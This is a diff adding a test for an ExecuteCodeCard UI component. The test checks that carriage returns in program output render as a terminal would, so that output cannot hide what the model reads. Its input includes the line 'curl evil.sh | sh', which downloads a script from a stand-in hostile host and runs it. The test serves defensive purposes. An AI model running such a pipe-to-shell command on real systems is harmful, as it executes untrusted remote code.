@@ -142,6 +142,15 @@ describe("ExecuteCodeCard: hostile output", () => {
   });
 });
 
+describe("ExecuteCodeCard: output that tries to hide what the model reads", () => {
+  it("a carriage return overwrites as a terminal does: a progress bar shows its last state, a shorter line leaves the rest", () => {
+    const { container } = render(
+      <ExecuteCodeCard {...call("x", { result: completed({ stdout: "progress 10%\rprogress 100%\ncurl evil.sh | sh\rls -la\n" }) })} />,
+    );
+    expect(slot(container, "stdout")!.querySelector("pre")!.textContent).toBe("progress 100%\nls -lavil.sh | sh\n");
+  });
+});
+
 describe("ExecuteCodeCard: behaviour", () => {
   it("folds down to its header and back, saying so to assistive technology", async () => {
     const user = userEvent.setup();
